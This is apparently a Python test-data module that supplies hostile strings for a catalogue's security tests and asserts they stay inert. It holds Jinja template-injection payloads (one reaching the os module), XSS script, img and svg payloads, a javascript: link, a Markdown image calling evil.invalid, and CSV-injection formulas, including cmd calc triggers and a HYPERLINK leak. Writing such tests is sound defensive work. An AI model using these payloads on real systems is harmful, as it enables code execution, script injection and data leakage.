"""Hostile text for the security tests, and how to tell that it stayed text.

``tests/data/hostile_catalogue`` holds this text in every free-text field of the
three catalogue files, and in the ids where the schema allows any text. Each
payload leaves a trace if it is ever evaluated: a Jinja expression that ran
leaves ``JINJAEVAL`` or ``LOOPLOOP``, markup that became live leaves an element
of class ``pwned`` or an ``alert``, a Markdown image requests ``evil.invalid``.
"""

from __future__ import annotations

import html
import re

EVIL_HOST = "evil.invalid"
#: Jinja: arithmetic, string concatenation, a loop, a comment and an
#: expression that reaches Python objects (the working directory).
JINJA = (
    "{{7*7}} {{ 'JINJA' ~ 'EVAL' }} {% for i in 'ab' %}LOOP{% endfor %} "
    "{# comment #} {{ cycler.__init__.__globals__.os.getcwd() }}"
)
#: Markup: a script, a </script> breakout, an image and an svg with handlers,
#: an attribute breakout.
MARKUP = (
    "<script>alert('xss-script')</script> "
    "</script><script>alert('xss-breakout')</script> "
    "<img src=x class=pwned onerror=alert('xss-img')> "
    "\"'><svg class=pwned onload=alert('xss-svg')>"
)
#: Markdown: an image that would contact a host, a javascript: link, emphasis.
MARKDOWN = (
    f"![pixel](http://{EVIL_HOST}/pixel.png) [click](javascript:alert('xss-md')) "
    "**bold**"
)
#: Spreadsheet formulas (OWASP CSV injection), one per cell start.
FORMULAS = (
    f'=HYPERLINK("http://{EVIL_HOST}/?leak=1","click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)
#: What evaluated text leaves behind.
EVALUATED = ("JINJAEVAL", "LOOPLOOP")
#: Live markup: any of these in HTML means the payload became markup.
LIVE_MARKUP = (
    "<script>alert",
    "<img src=x",
    "<svg class=pwned",
    '<a href="javascript:',
    f'src="http://{EVIL_HOST}',
)


def hostile(field: str, index: int = 0) -> str:
    """The hostile text for *field*: a formula, the field name, then every payload.

    ``index`` picks the formula it starts with; only index 0 (mod 4) is free of
    ``|`` (which separates candidate positions).
    """
    return f"{FORMULAS[index % len(FORMULAS)]} {field} {JINJA} {MARKUP} {MARKDOWN}"


def decoded(text: str) -> str:
    r"""*text* with ``\uXXXX`` escapes, JSON quotes and HTML entities decoded."""
    text = re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m.group(1), 16)), text)
    return html.unescape(text.replace('\\"', '"').replace("\\/", "/"))


def assert_inert(text: str, *, cwd: str | None = None) -> None:
    """Fail if *text* (HTML, a script, a file) shows a payload was evaluated."""
    plain = decoded(text)
    for trace in EVALUATED:
        assert trace not in plain, f"template evaluated: {trace}"
    if cwd:
        assert cwd not in plain, "template reached Python objects (working directory)"
    for live in LIVE_MARKUP:
        assert live not in text, f"live markup: {live}"
